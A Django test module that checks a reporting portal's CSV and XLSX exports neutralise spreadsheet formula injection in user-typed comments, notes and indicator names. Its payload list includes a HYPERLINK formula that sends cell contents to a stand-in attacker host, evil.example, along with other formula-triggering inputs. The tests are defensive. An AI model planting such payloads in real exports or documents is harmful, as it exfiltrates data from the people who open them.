"""Formula injection: text a user typed (a comment, a note, a name) never becomes a live formula in a file the
portal writes, whatever it starts with (=, +, -, @, a tab, a carriage return).

- The administration's exports (django-import-export: values, targets, indicators), CSV and XLSX: in CSV a
  text starting with one of those is written after an apostrophe (what spreadsheets read as "this is text");
  in XLSX it is a text cell, unchanged, marked "quote prefix" so Excel keeps it text even when edited.
- Our own workbooks (exports/xlsx): the entry template and the summary write typed text as text cells.
- A number stays a number, a negative one included: only text is escaped.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
from django.urls import reverse

from indicators.forms import COLUMNS as INDICATOR_COLUMNS
from indicators.models import Indicator, Measure
from plans.models import Target, TargetKind
from plans.periods import period_get_or_create
from plans.resources import COLUMNS as TARGET_COLUMNS
from reports.models import RollupNote, Value
from reports.resources import EXPORT_COLUMNS as VALUE_COLUMNS

from .base import PersonasTestCase
from .test_export_xlsx import ExcelTestCase, workbook_of
from .test_submissions import make_plan

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CSV, XLSX = "0", "1"


class AdminExportTestCase(PersonasTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.period = period_get_or_create(code="2024")
        cls.plan = make_plan(cls.hanoi)
        communes = [cls.tanlinh, cls.batrai, cls.coloa, cls.ytich]
        for n, payload in enumerate(PAYLOADS):
            unit = communes[n % len(communes)]
            indicator = Indicator.objects.create(
                code=f"CT{n}", name=payload, measure=Measure.COUNT, description=payload, numerator_label=payload
            )
            Value.objects.create(unit=unit, indicator=indicator, period=cls.period, value=n, comment=payload)
            Target.objects.create(
                plan=cls.plan,
                indicator=indicator,
                unit=unit,
                year=2026,
                kind=TargetKind.AT_LEAST,
                value=n,
                note=payload,
            )

    def setUp(self):
        self.client.force_login(self.admin)

    def export(self, model: str, resource: str, columns: list[str], fmt: str):
        response = self.client.post(
            reverse(f"admin:{model}_export"),
            {"format": fmt, "resource": "0", **{f"{resource}_{c}": "on" for c in columns}},
        )
        self.assertEqual(response.status_code, 200)
        return response.content

    def csv_rows(self, content: bytes) -> list[dict]:
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))

    def xlsx_cells(self, content: bytes) -> list[dict]:
        sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        return [dict(zip(header, row, strict=False)) for row in sheet.iter_rows(min_row=2)]

    EXPORTS = [
        ("reports_value", "valueresource", VALUE_COLUMNS, ["comment"]),
        ("plans_target", "targetresource", TARGET_COLUMNS, ["note"]),
        ("indicators_indicator", "indicatorresource", INDICATOR_COLUMNS, ["name", "description", "numerator_label"]),
    ]


class AdminCsvExportTests(AdminExportTestCase):
    def test_it_writes_text_that_starts_like_a_formula_after_an_apostrophe(self):
        for model, resource, columns, text_columns in self.EXPORTS:
            rows = self.csv_rows(self.export(model, resource, columns, CSV))
            for column in text_columns:
                with self.subTest(model=model, column=column):
                    self.assertCountEqual([row[column] for row in rows], ["'" + p for p in PAYLOADS])

    def test_it_leaves_numbers_and_plain_text_alone(self):
        Target.objects.filter(note=PAYLOADS[0]).update(value=Decimal("-1.5"), note="Giảm - so với 2024")
        rows = self.csv_rows(self.export("plans_target", "targetresource", TARGET_COLUMNS, CSV))
        row = next(row for row in rows if row["note"] == "Giảm - so với 2024")
        self.assertEqual((row["value"], row["unit_code"]), ("-1,50", "09910"))  # a number, as the widget writes it


class AdminXlsxExportTests(AdminExportTestCase):
    def test_it_writes_text_that_starts_like_a_formula_as_text(self):
        for model, resource, columns, text_columns in self.EXPORTS:
            rows = self.xlsx_cells(self.export(model, resource, columns, XLSX))
            for column in text_columns:
                with self.subTest(model=model, column=column):
                    cells = [row[column] for row in rows]
                    self.assertCountEqual([c.value for c in cells], PAYLOADS)
                    self.assertEqual({c.data_type for c in cells}, {"s"})
                    self.assertTrue(all(c.quotePrefix for c in cells))

    def test_it_writes_no_formula_at_all(self):
        for model, resource, columns, _text in self.EXPORTS:
            sheet = openpyxl.load_workbook(io.BytesIO(self.export(model, resource, columns, XLSX))).worksheets[0]
            with self.subTest(model=model):
                self.assertEqual([c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"], [])

    def test_it_keeps_numbers_as_numbers_a_negative_one_included(self):
        Target.objects.filter(note=PAYLOADS[0]).update(value=Decimal("-1.5"))
        rows = self.xlsx_cells(self.export("plans_target", "targetresource", TARGET_COLUMNS, XLSX))
        cell = next(row["value"] for row in rows if row["note"].value == PAYLOADS[0])
        self.assertEqual((cell.value, cell.data_type), (-1.5, "n"))


class OwnWorkbookTests(ExcelTestCase):
    """Our workbooks carry what people typed: a value's comment in the entry template, a roll-up note in the
    summary. Whatever it starts with, it is a text cell, marked to stay text in Excel."""

    def assertText(self, cell, payload: str):
        self.assertEqual((cell.value, cell.data_type, cell.quotePrefix), (payload, "s", True))

    def test_it_writes_a_comment_as_text_in_the_entry_template(self):
        self.client.force_login(self.reporter)
        url = reverse("exports:template_xlsx", args=[self.tanlinh.pk, self.period.code])
        for payload in PAYLOADS:
            Value.objects.filter(comment="=1+1").update(comment=payload)
            sheet = workbook_of(self.client.get(url))["Nhập số liệu"]
            with self.subTest(payload=payload):
                self.assertText(
                    next(row[10] for row in sheet.iter_rows(min_row=2) if row[2].value == "TTHTCD"), payload
                )
            Value.objects.filter(comment=payload).update(comment="=1+1")

    def test_it_writes_a_roll_up_note_as_text_in_the_summary(self):
        self.client.force_login(self.province_reviewer)
        url = reverse("exports:summary_xlsx", args=[self.bavi.pk, self.period.code])
        for payload in PAYLOADS:
            RollupNote.objects.update(comment=payload)
            book = workbook_of(self.client.get(url))
            # The summary is streamed as inline strings, where a CR is written _x000D_ (OOXML's escape, which Excel
            # reads back as the CR); openpyxl returns inline strings without undoing that escape.
            cells = [
                c for sheet in book for row in sheet.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.replace("_x000D_", "\r") == payload
            ]  # fmt: skip
            with self.subTest(payload=payload):
                self.assertTrue(cells)
                for cell in cells:
                    self.assertText(cell, cell.value)


class RoundTripTests(AdminExportTestCase):
    def test_it_takes_the_apostrophes_off_when_an_exported_csv_comes_back(self):
        from import_export.formats.base_formats import CSV as CsvFormat

        from reports.resources import ValueResource

        content = self.export("reports_value", "valueresource", VALUE_COLUMNS, CSV).decode("utf-8-sig")
        dataset = CsvFormat().create_dataset(content)
        result = ValueResource().import_data(dataset, dry_run=False, user=self.admin)
        self.assertFalse(result.has_errors() or result.has_validation_errors(), result.invalid_rows)
        # As on the upload page, a comment comes in without its surrounding blanks (the tab, the CR).
        self.assertCountEqual(Value.objects.values_list("comment", flat=True), [p.strip() for p in PAYLOADS])


class EveryAdminExportTests(PersonasTestCase):
    def test_it_exports_only_through_the_formula_safe_formats_and_resources(self):
        from django.contrib import admin
        from import_export.admin import ImportExportMixinBase

        from core.spreadsheet import FORMATS, FormulaSafeResource

        found = []
        for model, model_admin in admin.site._registry.items():
            if isinstance(model_admin, ImportExportMixinBase):
                found.append(model._meta.label)
                self.assertEqual(list(model_admin.get_export_formats()), FORMATS, model)
                for resource in model_admin.get_export_resource_classes(None):
                    self.assertTrue(issubclass(resource, FormulaSafeResource), resource)
        self.assertCountEqual(found, ["reports.Value", "plans.Target", "indicators.Indicator"])
